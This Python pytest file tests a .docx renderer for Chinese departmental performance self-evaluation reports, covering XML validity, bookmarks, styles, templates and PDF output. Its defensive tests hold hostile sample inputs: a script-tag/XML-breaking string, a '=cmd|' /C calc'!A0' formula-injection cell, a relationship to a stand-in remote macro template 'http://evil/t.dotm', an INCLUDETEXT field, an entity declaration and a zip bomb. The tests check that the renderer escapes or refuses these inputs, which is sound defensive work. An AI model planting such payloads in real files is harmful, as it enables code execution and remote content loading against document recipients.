"""The report as .docx: its form, its validity, its bookmarks, templates, and what hostile text and files do to it."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterable
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from assistant.case import Case
from assistant.domain.bookmark import bookmark_names, read_bookmark
from assistant.domain.document import SectionName
from assistant.domain.report import Cell, Heading, Paragraph, Report, Run, Table, runs_text
from assistant.drafting.outline.report import compose
from assistant.errors import InputError
from assistant.pipeline import draft_offline
from assistant.rendering import pdf
from assistant.rendering.docx.default_template import default_template
from assistant.rendering.docx.elements import R, W
from assistant.rendering.docx.report import render_docx
from assistant.rendering.docx.styles import LOOKS, NEEDED
from assistant.rendering.docx.tables import column_widths
from assistant.rendering.docx.template import check_template
from benchmarks.report import composed
from tests.conftest import EXAMPLE
from tests.office import tool
from tests.test_cli import Run as Command
from tests.test_cli import ziping

__all__ = ["ziping"]  # the fixture that runs a command line

FILED = date(2024, 4, 15)
# Children in the order of ECMA-376 (transitional), for the elements that are written.
ORDER = {
    "pPr": "pStyle keepNext keepLines pageBreakBefore framePr widowControl numPr suppressLineNumbers pBdr shd tabs "
    "suppressAutoHyphens kinsoku wordWrap overflowPunct topLinePunct autoSpaceDE autoSpaceDN bidi adjustRightInd snapToGrid "
    "spacing ind contextualSpacing mirrorIndents suppressOverlap jc textDirection textAlignment textboxTightWrap outlineLvl "
    "divId cnfStyle rPr sectPr pPrChange",
    "rPr": "rStyle rFonts b bCs i iCs caps smallCaps strike dstrike outline shadow emboss imprint noProof snapToGrid vanish "
    "webHidden color spacing w kern position sz szCs highlight u effect bdr shd fitText vertAlign rtl cs em lang",
    "sectPr": "headerReference footerReference footnotePr endnotePr type pgSz pgMar paperSrc pgBorders lnNumType pgNumType "
    "cols formProt vAlign noEndnote titlePg textDirection bidi rtlGutter docGrid printerSettings sectPrChange",
    "tbl": "bookmarkStart bookmarkEnd tblPr tblGrid tr",
    "tblPr": "tblStyle tblpPr tblOverlap bidiVisual tblStyleRowBandSize tblStyleColBandSize tblW jc tblCellSpacing tblInd "
    "tblBorders shd tblLayout tblCellMar tblLook tblCaption tblDescription",
    "tblBorders": "top left start bottom right end insideH insideV",
    "tblCellMar": "top left start bottom right end",
    "tr": "tblPrEx trPr tc",
    "trPr": "cnfStyle divId gridBefore gridAfter wBefore wAfter cantSplit trHeight tblHeader tblCellSpacing jc hidden",
    "tc": "tcPr p",
    "tcPr": "cnfStyle tcW gridSpan hMerge vMerge tcBorders shd noWrap tcMar textDirection tcFitText vAlign hideMark",
    "style": "name aliases basedOn next link autoRedefine hidden uiPriority semiHidden unhideWhenUsed qFormat locked rsid pPr "
    "rPr tblPr trPr tcPr tblStylePr",
    "styles": "docDefaults latentStyles style",
    "font": "altName panose1 charset family notTrueType pitch sig",
    "settings": "writeProtection view zoom removePersonalInformation mirrorMargins attachedTemplate trackRevisions "
    "defaultTabStop autoHyphenation evenAndOddHeaders drawingGridHorizontalSpacing drawingGridVerticalSpacing "
    "characterSpacingControl strictFirstAndLastChars noLineBreaksAfter noLineBreaksBefore updateFields footnotePr endnotePr "
    "compat docVars rsids themeFontLang clrSchemeMapping decimalSymbol listSeparator",
    "compat": "spaceForUL balanceSingleByteDoubleByteWidth doNotLeaveBackslashAlone ulTrailSpace doNotExpandShiftReturn "
    "adjustLineHeightInTable useFELayout compatSetting",
    "document": "background body",
}  # fmt: skip


@pytest.fixture(scope="module")
def report(case: Case) -> Report:
    return compose(case.submission, case.ledger, {name: draft_offline(case, name) for name in SectionName})


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert len(package.namelist()) == len(set(package.namelist()))
        return {name: package.read(name) for name in package.namelist()}


def document(data: bytes) -> Any:
    return etree.fromstring(parts(data)["word/document.xml"])


def texts(data: bytes) -> list[str]:
    """The text of every paragraph."""
    return ["".join(item.text or "" for item in p.iter(W + "t")) for p in document(data).iter(W + "p")]


def small(*body: Any, annex: tuple[Any, ...] = (), notes: tuple[str, ...] = (), unit: str = "某局") -> Report:
    return Report(
        "部门整体支出绩效自评报告", "（2023年度）", (("部门单位名称", unit),), tuple(body), annex, notes
    )


def faults(data: bytes) -> list[str]:
    """What Word would repair: parts that are not well-formed, wrong order, links that lead nowhere, ids used twice."""
    found: list[str] = []
    files = parts(data)
    for name, content in files.items():
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(content)
        for element in root.iter():
            order = ORDER.get(str(element.tag).removeprefix(W), "").split()
            kinds = [str(child.tag).removeprefix(W) for child in element]
            if order and element.tag.startswith(W):
                unknown = [kind for kind in kinds if kind not in order]
                places = [order.index(kind) for kind in kinds if kind in order]
                if unknown or places != sorted(places):
                    found.append(f"{name}: {element.tag} has {kinds}")
        if name.endswith(".rels"):
            folder = Path(name).parent.parent.as_posix()
            for link in root:
                target = link.get("Target").lstrip("/")
                if (target if folder == "." else f"{folder}/{target}") not in files and target not in files:
                    found.append(f"{name}: {target} is not there")
    return found + _unlinked(files) + _twice(etree.fromstring(files["word/document.xml"]))


def _unlinked(files: dict[str, bytes]) -> list[str]:
    root = etree.fromstring(files["word/document.xml"])
    known = {link.get("Id") for link in etree.fromstring(files["word/_rels/document.xml.rels"])}
    styles = {
        item.get(W + "styleId") for item in etree.fromstring(files["word/styles.xml"]).iter(W + "style")
    }
    used = {item.get(W + "val") for tag in ("pStyle", "tblStyle", "rStyle") for item in root.iter(W + tag)}
    anchors = {item.get(W + "anchor") for item in root.iter(W + "hyperlink")}
    names = {item.get(W + "name") for item in root.iter(W + "bookmarkStart")}
    linked = {item.get(f"{R}id") for item in root.iter() if item.get(f"{R}id")}
    types = files["[Content_Types].xml"].decode()
    untyped = [name for name in files if name.endswith(".xml") and name != "[Content_Types].xml"
               and 'Extension="xml"' not in types and f'"/{name}"' not in types]  # fmt: skip
    return [*map(str, used - styles), *map(str, anchors - names), *map(str, linked - known), *untyped]


def _twice(root: Any) -> list[str]:
    starts, ends = (
        [item.get(W + "id") for item in root.iter(W + tag)] for tag in ("bookmarkStart", "bookmarkEnd")
    )
    names = [item.get(W + "name").lower() for item in root.iter(W + "bookmarkStart")]
    found = ["bookmark ends"] * (sorted(starts) != sorted(ends))
    found += ["bookmark ids"] * (len(set(starts)) != len(starts)) + ["bookmark names"] * (
        len(set(names)) != len(names)
    )
    return found + [name for name in names if len(name) > 40]


@pytest.mark.parametrize("contents", [False, True])
def test_nothing_for_word_to_repair(report: Report, contents: bool) -> None:
    assert faults(render_docx(report, FILED, None, contents)) == []
    assert faults(default_template()) == []
    many, _, filed = composed(20)
    assert faults(render_docx(many, filed, None, contents)) == []  # type: ignore[arg-type]
    assert faults(render_docx(small(), FILED, None, contents)) == []
    assert (
        faults(render_docx(small(Table("表", ((Cell((Run("甲"),)),),), (1,))), FILED, None, contents)) == []
    )


def test_the_check_for_repairs_finds_them(report: Report) -> None:
    data = render_docx(report, FILED)

    def broken(old: str, new: str) -> list[str]:
        return faults(changed(data, "word/document.xml", (old, new)))

    assert broken("<w:cantSplit/>", "<w:tblHeader/><w:cantSplit/>")
    assert broken('<w:bookmarkEnd w:id="2"/>', "")
    assert broken('<w:bookmarkStart w:id="2"', '<w:bookmarkStart w:id="1"')
    assert broken('<w:pStyle w:val="z', '<w:pStyle w:val="y')
    assert broken("<w:vAlign", '<w:vAlign w:val="top"/><w:tcW/><w:vAlign')


def changed(data: bytes, part: str, *replacements: tuple[str, str]) -> bytes:
    """The package with text of one part replaced; without replacements the part is left out."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts(data).items():
            if name != part:
                package.writestr(name, content)
            elif replacements:
                text = content.decode()
                for old, new in replacements:
                    assert old in text, old
                    text = text.replace(old, new, 1)
                package.writestr(name, text)
    return stream.getvalue()


def runs_of(blocks: Iterable[Any]) -> list[Run]:
    found: list[Run] = []
    for block in blocks:
        if isinstance(block, Table):
            found += [run for row in block.rows for cell in row for run in cell.runs]
        elif isinstance(block, Paragraph):
            found += block.runs
    return found


def test_every_number_stands_in_its_bookmark_and_nothing_else_does(report: Report) -> None:
    root = document(render_docx(report, FILED, None, True))
    printed = [(run.entry_id, run.text) for run in runs_of((*report.body, *report.annex)) if run.entry_id]
    assert len(printed) > 200
    found: list[tuple[str, str]] = []
    for start in root.iter(W + "bookmarkStart"):
        if read_bookmark(start.get(W + "name")) is None:
            continue
        inner, item = "", start.getnext()
        while item.tag != W + "bookmarkEnd":
            inner += "".join(text.text for text in item.iter(W + "t"))
            item = item.getnext()
        assert item.get(W + "id") == start.get(W + "id")
        found.append((start.get(W + "name"), inner))
    assert found == list(zip(bookmark_names(printed), (text for _, text in printed), strict=True))
    assert not list(root.iter(W + "sdt"))


def test_text_is_the_report_and_the_form_is_in_styles(report: Report) -> None:
    data = render_docx(report, FILED)
    written = texts(data)
    assert written[:2] == [report.title, report.subtitle]
    for block in report.body:
        assert (block.text if isinstance(block, Heading) else runs_text(block.runs)) in written  # type: ignore[union-attr]
    root = document(data)
    assert {child.tag for run in root.iter(W + "r") for child in run} <= {W + "t", W + "br", W + "tab"}
    direct = {child.tag.removeprefix(W) for item in root.iter(W + "pPr") for child in item}
    assert direct == {
        "pStyle",
        "sectPr",
        "keepNext",
    }  # keepNext: the row before a total, which no style can tell


def test_page_of_the_standard(report: Report) -> None:
    files = parts(render_docx(report, FILED))
    cover, body, annex = etree.fromstring(files["word/document.xml"]).iter(W + "sectPr")

    def of(section: Any, tag: str) -> dict[str, str]:
        return {key.removeprefix(W): value for key, value in section.find(W + tag).items()}

    millimetres = {
        side: round(int(of(body, "pgMar")[side]) * 25.4 / 1440) for side in ("top", "bottom", "left", "right")
    }
    assert millimetres == {"top": 37, "bottom": 35, "left": 28, "right": 26}
    assert of(body, "docGrid") == {"type": "linesAndChars", "linePitch": "579", "charSpace": "-849"}
    wide = 11906 - int(of(body, "pgMar")["left"]) - int(of(body, "pgMar")["right"])
    high = 16838 - int(of(body, "pgMar")["top"]) - int(of(body, "pgMar")["bottom"])
    assert (high // 579, wide // (320 - 849 / 204.8)) == (22, 28)
    assert of(annex, "pgSz") == {"w": "16838", "h": "11906", "orient": "landscape"}
    assert cover.find(W + "footerReference") is None and of(body, "pgNumType") == {"start": "1"}
    assert {item.get(W + "type") for item in annex.findall(W + "footerReference")} == {"default", "even"}
    assert annex.find(W + "pgNumType") is None
    assert (
        b"evenAndOddHeaders" in files["word/settings.xml"]
        and b"updateFields" not in files["word/settings.xml"]
    )
    for foot, style, side in (("footer1", "单页页码", "right"), ("footer2", "双页页码", "left")):
        root = etree.fromstring(files[f"word/{foot}.xml"])
        assert (
            "".join(root.itertext()) == "— 1 —" and root.find(f".//{W}fldSimple").get(W + "instr") == " PAGE "
        )
        own = style_of(files, style)
        assert own.find(f".//{W}jc").get(W + "val") == side and own.find(f".//{W}sz").get(W + "val") == "28"
        assert root.find(f".//{W}pStyle").get(W + "val") == own.get(W + "styleId")


def style_of(files: dict[str, bytes], name: str) -> Any:
    root = etree.fromstring(files["word/styles.xml"])
    return next(item for item in root.iter(W + "style") if item.find(W + "name").get(W + "val") == name)


@pytest.mark.parametrize(
    ("name", "face", "size"),
    [("Title", "方正小标宋简体", "44"), ("公文正文", "仿宋_GB2312", "32"), ("heading 1", "黑体", "32"),
     ("heading 2", "楷体_GB2312", "32"), ("heading 3", "仿宋_GB2312", "32"), ("heading 4", "仿宋_GB2312", "32"),
     ("附件标记", "黑体", "32"), ("单页页码", "宋体", "28")],
)  # fmt: skip
def test_faces_and_sizes_of_the_standard(name: str, face: str, size: str) -> None:
    files = parts(default_template())
    style = style_of(files, name)
    fonts = style.find(f"{W}rPr/{W}rFonts")
    assert fonts.get(W + "eastAsia") == face and style.find(f"{W}rPr/{W}sz").get(W + "val") == size
    assert {key for key in fonts if "Theme" in key} == set()
    assert all(fonts.get(W + slot) for slot in ("ascii", "hAnsi", "cs"))
    stands_in = {
        font.get(W + "name"): font.find(W + "altName")
        for font in etree.fromstring(files["word/fontTable.xml"])
    }
    assert stands_in[face].get(W + "val")


def test_first_line_indent_is_said_for_every_style() -> None:
    files = parts(default_template())
    indents = {look.name: style_of(files, look.name).find(f"{W}pPr/{W}ind") for look in LOOKS}
    chars = {
        name: item.get(W + "firstLineChars")
        for name, item in indents.items()
        if item.get(W + "hangingChars") is None
    }
    assert {name for name, value in chars.items() if value == "200"} == {
        "公文正文", "heading 1", "heading 2", "heading 3", "heading 4", "编制说明"}  # fmt: skip
    assert set(chars.values()) == {"0", "200"}


def test_heads_of_merged_tables_are_repeated_and_rows_stay_whole() -> None:
    head = (Cell((Run("一级指标"),), rows=2, head=True), Cell((Run("年度指标值"),), columns=2, head=True))
    second = (Cell((Run("预期"),), head=True), Cell((Run("实际"),), head=True))
    first = (Cell((Run("产出"),), rows=2, head=True), Cell((Run("10"),)), Cell((Run("长" * 40_000),)))
    rows = (head, second, first, (Cell((Run("20"),)), Cell((Run("21"),))))
    root = document(render_docx(small(annex=(Table("表", rows, (1, 1, 1), heads=2),)), FILED))
    lines = list(root.iter(W + "tr"))
    assert [line.find(f"{W}trPr/{W}tblHeader") is not None for line in lines] == [True, True, False, False]
    # The third row is higher than a page: forbidden to break, it would never stand anywhere.
    assert [line.find(f"{W}trPr/{W}cantSplit") is not None for line in lines] == [True, True, False, True]
    merges = [[cell.find(f"{W}tcPr/{W}vMerge") for cell in line.iter(W + "tc")] for line in lines]
    kinds = [[item.get(W + "val") if item is not None else "" for item in line] for line in merges]
    assert kinds == [["restart", ""], ["continue", "", ""], ["restart", "", ""], ["continue", "", ""]]
    assert lines[0].find(f".//{W}gridSpan").get(W + "val") == "2"
    widths = [int(item.get(W + "w")) for item in root.iter(W + "gridCol")]
    assert sum(int(item.get(W + "w")) for item in lines[1].iter(W + "tcW")) == sum(widths) <= 16838


def test_columns_leave_room_for_a_number_and_two_words() -> None:
    cells = (
        Cell((Run("分值（分）"),), head=True),
        Cell((Run("实际完成值"),), head=True),
        Cell((Run("原因"),)),
    )
    numbers = (Cell((Run("10"),)), Cell((Run("≥1234567.89万元"),)), Cell((Run("因" * 300),)))
    widths = column_widths(Table("表", (cells, numbers), (1, 1, 98)), 10_000)
    assert widths[0] >= 4 * 210 and widths[1] >= 7.5 * 210 and sum(widths) <= 10_000
    assert min(column_widths(Table("表", ((Cell((Run("长" * 9),)),) * 60,), (1,) * 60), 10_000)) > 0


def test_units_do_not_begin_a_line(report: Report) -> None:
    settings = etree.fromstring(parts(render_docx(report, FILED))["word/settings.xml"])
    kept = settings.find(W + "noLineBreaksBefore")
    assert kept.get(W + "lang") == "zh-CN" and set("，。%）万元件人分") <= set(kept.get(W + "val"))
    assert len(kept.get(W + "val")) <= 100


def test_contents_lists_every_heading_with_its_page(report: Report) -> None:
    root = document(render_docx(report, FILED, None, True))
    headings = [
        block.text
        for block in (*report.body, *report.annex)
        if isinstance(block, Heading) and block.level < 4
    ]
    entries = list(root.iter(W + "hyperlink"))
    assert [
        "".join(t.text for t in entry.iter(W + "t")).rstrip("0123456789") for entry in entries
    ] == headings
    codes = [item.text for item in root.iter(W + "instrText")]
    assert codes[0] == ' TOC \\o "1-3" \\h \\z \\u ' and codes[1:] == [
        f" PAGEREF {entry.get(W + 'anchor')} \\h " for entry in entries
    ]
    kinds = [item.get(W + "fldCharType") for item in root.iter(W + "fldChar")]
    assert kinds.count("begin") == kinds.count("separate") == kinds.count("end") == len(entries) + 1
    pages = [int([t.text for t in entry.iter(W + "t")][-1]) for entry in entries]
    assert pages == sorted(pages) and pages[0] == 1 and pages[-1] > 8
    assert not list(document(render_docx(report, FILED)).iter(W + "hyperlink"))


def test_properties_come_from_the_report_alone(report: Report) -> None:
    import docx

    data = render_docx(report, FILED)
    assert data == render_docx(report, FILED) and default_template() == default_template.__wrapped__()
    own = docx.Document(io.BytesIO(data)).core_properties
    assert (own.title, own.language, own.category) == (report.title, "zh-CN", "绩效自评报告")
    assert own.created.date() == own.modified.date() == FILED and report.cover[0][1] in own.subject
    assert own.keywords and own.last_modified_by == ""


HOSTILE = "<script>alert(1)</script> & ]]> <w:p/> &amp; '\""


def test_hostile_text_is_printed_as_it_is() -> None:
    written = small(
        Heading(1, HOSTILE), Paragraph((Run(HOSTILE), Run("9.07分", "total.score"))),
        Table(HOSTILE, ((Cell((Run(HOSTILE),), head=True),), (Cell((Run("=cmd|' /C calc'!A0"),)),)), (1,)),
        notes=(HOSTILE,), unit=HOSTILE,
    )  # fmt: skip
    data = render_docx(written, FILED, None, True)
    assert faults(data) == []
    found = texts(data)
    assert found.count(HOSTILE) == 4 and f"部门单位名称：{HOSTILE}" in found and f"{HOSTILE}9.07分" in found
    assert "=cmd|' /C calc'!A0" in found


def test_what_cannot_be_printed_is_seen() -> None:
    """XML holds no control characters, and bidirectional ones would turn the words round: each stands as U+FFFD."""
    for code in (*range(0x20), 0x7F, 0x200E, 0x202E, 0x2066, 0xD800, 0xFFFE, 0xFFFF):
        sign = chr(code)
        data = render_docx(
            small(Paragraph((Run(f"甲{sign}乙", "total.score"),)), unit=f"甲{sign}乙"), FILED, None, True
        )
        assert faults(data) == []
        wanted = "甲乙" if sign in "\t\n\r" else "甲\ufffd乙"
        assert wanted in texts(data) and f"部门单位名称：{wanted}" in texts(data)


def test_ten_thousand_characters_without_a_blank() -> None:
    for long in ("a" * 10_000, "元" * 10_000, "9" * 10_000):
        row = (Cell((Run(long),)), Cell((Run("10", "total.points"),)))
        data = render_docx(small(Heading(1, long), Paragraph((Run(long),)), annex=(Table(long, (row,), (1, 1)),), unit=long), FILED, None, True)  # fmt: skip
        assert faults(data) == [] and texts(data).count(long) == 4 and len(data) < 100_000


def test_five_hundred_indicators_are_bounded(report: Report) -> None:
    """Every part of the writing is linear in rows: no row is looked at again for another."""
    table = next(block for block in reversed(report.annex) if isinstance(block, Table))
    long = replace(table, rows=(*table.rows[:1], *table.rows[1:] * 60))
    data = render_docx(replace(report, annex=(long,)), FILED)
    assert len(data) < 400_000 and len(list(document(data).iter(W + "tr"))) > 500


# Templates


def test_template_is_written_changed_and_used(ziping: Command) -> None:
    code, out, _ = ziping("template", "own.docx")
    assert code == 0 and "--template own.docx" in out
    assert ziping("template", "own.docx")[0] == 2 and ziping("template", "own.doc")[0] == 2
    letterhead(Path("own.docx"))
    code, _, _ = ziping("draft", EXAMPLE, "--out", "report", "--offline", "--template", "own.docx")
    data = Path("report/report.docx").read_bytes()
    assert code == 0 and faults(data) == []
    files = parts(data)
    headers = [
        content.decode() for name, content in files.items() if "header" in name and name.endswith(".xml")
    ]
    assert any("某某局文件" in header for header in headers)
    assert b'w:eastAsia="\xe5\xae\x8b\xe4\xbd\x93"' in etree.tostring(
        style_of(files, "公文正文"), encoding="utf-8"
    )
    assert all(
        section.find(f"{W}pgMar").get(W + "top") == "2400"
        for section in list(document(data).iter(W + "sectPr"))[:2]
    )
    assert not any("模板" in text or "示意" in text for text in texts(data))


def letterhead(path: Path) -> None:
    """What an office does in Word: its name above every page, another face, another margin."""
    import docx
    from docx.shared import Twips

    own = docx.Document(str(path))
    for section in own.sections[:2]:
        section.top_margin = Twips(2400)
    header = own.sections[0].header
    header.is_linked_to_previous = False
    header.paragraphs[0].text = "某某局文件"
    style = own.styles["公文正文"].element
    style.rPr.rFonts.set(W + "eastAsia", "宋体")
    own.save(str(path))


def test_the_template_is_kept_for_the_next_writing_and_for_replay(ziping: Command) -> None:
    ziping("template", "own.docx")
    letterhead(Path("own.docx"))
    ziping("draft", EXAMPLE, "--out", "report", "--offline", "--template", "own.docx", "--contents")
    first = Path("report/report.docx").read_bytes()
    Path("own.docx").unlink()
    assert ziping("render", "report")[0] == 0 and Path("report/report.docx").read_bytes() == first
    assert ziping("export", "report", "kept.json")[0] == 0
    code, _, err = ziping("replay", "kept.json", "--out", "again")
    assert code == 0 and "逐字节相同" in err and Path("again/report.docx").read_bytes() == first
    assert ziping("render", "report", "--no-contents")[0] == 0
    assert "目录" not in texts(Path("report/report.docx").read_bytes())
    assert ziping("history", "report", "--check")[0] == 0


def test_without_a_template_the_history_is_as_it_was(ziping: Command) -> None:
    ziping("draft", EXAMPLE, "--out", "report", "--offline")
    from assistant.history.folder import Folder

    records = Folder(Path("report"), create=False).history.records()
    supplied = next(item for item in records if item.kind == "submission")
    assert set(supplied.data) == {"path", "file", "suffix", "submission", "standard", "waivers"}


def test_template_of_one_section_gives_cover_and_annex(report: Report) -> None:
    import docx

    own = docx.Document(io.BytesIO(default_template()))
    body = own.element.body
    for section in list(body.iter(W + "sectPr"))[:-1]:
        if section.find(W + "pgNumType") is None:
            section.getparent().remove(section)
        else:
            upright = section
    body.remove(body.sectPr)
    body.append(upright)
    stream = io.BytesIO()
    own.save(stream)
    data = render_docx(report, FILED, stream.getvalue())
    assert faults(data) == []
    sections = list(document(data).iter(W + "sectPr"))
    assert [item.find(f"{W}pgSz").get(W + "orient") for item in sections] == [None, None, "landscape"]


@pytest.mark.parametrize("look", [look.name for look in NEEDED])
def test_a_missing_style_is_named(look: str) -> None:
    data = changed(
        default_template(), "word/styles.xml", (f'<w:name w:val="{look}"/>', '<w:name w:val="别的"/>')
    )
    with pytest.raises(InputError, match=r"模板缺少样式：“.+”；请用 ziping template") as error:
        check_template(data)
    shown = re.findall("“(.+?)”", str(error.value))
    assert len(shown) == 1 and (look in shown or look.isascii())


def bomb() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"0" * 60_000_000)
    return stream.getvalue()


def added(name: str, content: str) -> bytes:
    stream = io.BytesIO(default_template())
    with zipfile.ZipFile(stream, "a") as package:
        package.writestr(name, content)
    return stream.getvalue()


OUTSIDE = (
    '<Relationships><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
MACRO_TYPE = ("wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
REFUSED = {
    "text": (b"hello", "不是 .docx，或不完整"),
    "empty": (b"", "不是 .docx，或不完整"),
    "old": (bytes.fromhex("D0CF11E0A1B11AE1"), "旧格式（.doc 或 .wps）或有打开密码"),
    "half": (default_template()[:3000], "不是 .docx，或不完整"),
    "workbook": (changed(default_template(), "word/document.xml"), "里没有文档，不是 .docx"),
    "bomb": (bomb(), "解压后有60MB"),
    "macro": (added("word/vbaProject.bin", ""), "含有宏或嵌入对象"),
    "macro type": (changed(default_template(), "[Content_Types].xml", MACRO_TYPE), "启用宏的文档"),
    "object": (added("word/embeddings/a.bin", ""), "含有宏或嵌入对象"),
    "outside": (added("word/_rels/settings.xml.rels", OUTSIDE), "引用了外部文件或网址（http://evil/t.dotm）"),
    "field": (added("word/header9.xml", '<w:x><w:instrText> INCLU</w:instrText><w:instrText>DETEXT "x"</w:instrText></w:x>'), "引用外部文件的域"),
    "entity": (added("word/header9.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a/>'), "含有实体声明"),
    "broken xml": (changed(default_template(), "word/styles.xml", ("</w:styles>", "")), "模板不能打开"),
    "no section": (changed(default_template(), "word/document.xml", ("w:pgMar", "w:pgMore"), ("w:pgMar", "w:pgMore"), ("w:pgMar", "w:pgMore")), "页面设置读不出来"),
    "style": (changed(default_template(), "word/styles.xml", ('"公文正文"', '"正文体"')), "模板缺少样式：“公文正文”"),
}  # fmt: skip


@pytest.mark.parametrize("kind", REFUSED)
def test_a_template_that_cannot_be_used_is_refused(ziping: Command, kind: str) -> None:
    data, says = REFUSED[kind]
    Path("own.docx").write_bytes(data)
    code, _, err = ziping("draft", EXAMPLE, "--out", "report", "--offline", "--template", "own.docx")
    assert code == 2 and says in err and "own.docx" in err and err.count("\n") == 1, err
    assert not Path("report").exists()


def test_a_template_that_is_not_there_or_too_large(ziping: Command) -> None:
    for name, says in (("none.docx", "文件不存在"), (".", "这是文件夹")):
        code, _, err = ziping("draft", EXAMPLE, "--out", "report", "--offline", "--template", name)
        assert code == 2 and says in err
    with Path("big.docx").open("wb") as file:
        file.truncate(21_000_000)
    assert "文件超过20MB" in ziping("draft", EXAMPLE, "--out", "r", "--offline", "--template", "big.docx")[2]


# PDF


def test_pdf_beside_the_report(ziping: Command) -> None:
    tool("soffice")
    code, out, _ = ziping("draft", EXAMPLE, "--out", "report", "--offline", "--pdf")
    assert code == 0 and out.split()[-1] == str(Path("report/report.pdf"))
    assert Path("report/report.pdf").read_bytes().startswith(b"%PDF")
    before = Path("report/report.docx").read_bytes()
    assert ziping("render", "report")[0] == 0 and Path("report/report.pdf").exists()
    # Another report does not keep the PDF of the one before.
    assert ziping("render", "report", "--contents")[0] == 0
    assert not Path("report/report.pdf").exists() and Path("report/previous/report-001.pdf").exists()
    assert Path("report/report.docx").read_bytes() != before


def test_without_libreoffice_the_other_files_are_there(
    ziping: Command, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pdf.shutil, "which", lambda name: None)
    monkeypatch.setattr(pdf, "_PLACES", ())
    code, out, err = ziping("draft", EXAMPLE, "--out", "report", "--offline", "--pdf")
    assert code == 0 and out.count("report/report") == 3 and not Path("report/report.pdf").exists()
    assert "没有生成 PDF：没有找到 LibreOffice（soffice）。请安装" in err and "其他文件已生成" in err


@pytest.mark.parametrize(
    ("script", "says"),
    [
        ("exit 0", "没有生成 PDF"),
        ("exit 77", "没有生成 PDF"),
        ("sleep 20", "1秒内没有完成"),
        ("", "不能运行"),
    ],
)
def test_a_printer_that_fails_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, script: str, says: str
) -> None:
    program = tmp_path / "soffice"
    program.write_text(
        f"#!/bin/sh\nexec {script}\n" if script.startswith("sleep") else f"#!/bin/sh\n{script}\n"
    )
    program.chmod(0o755 if script else 0o644)
    monkeypatch.setattr(pdf, "_program", lambda: str(program))
    printed = pdf.print_pdf(b"", {}, seconds=1)
    assert printed.data == b"" and says in printed.failure


def test_missing_faces_are_named(monkeypatch: pytest.MonkeyPatch) -> None:
    """A face counts as there where Word would find one that stands in for it."""

    class Answer:
        stdout = "SimSun,FangSong,宋体".encode()

    monkeypatch.setattr(pdf.shutil, "which", lambda name: name)
    monkeypatch.setattr(pdf.subprocess, "run", lambda *_, **__: Answer)
    assert pdf.missing_faces() == ("楷体_GB2312", "黑体")
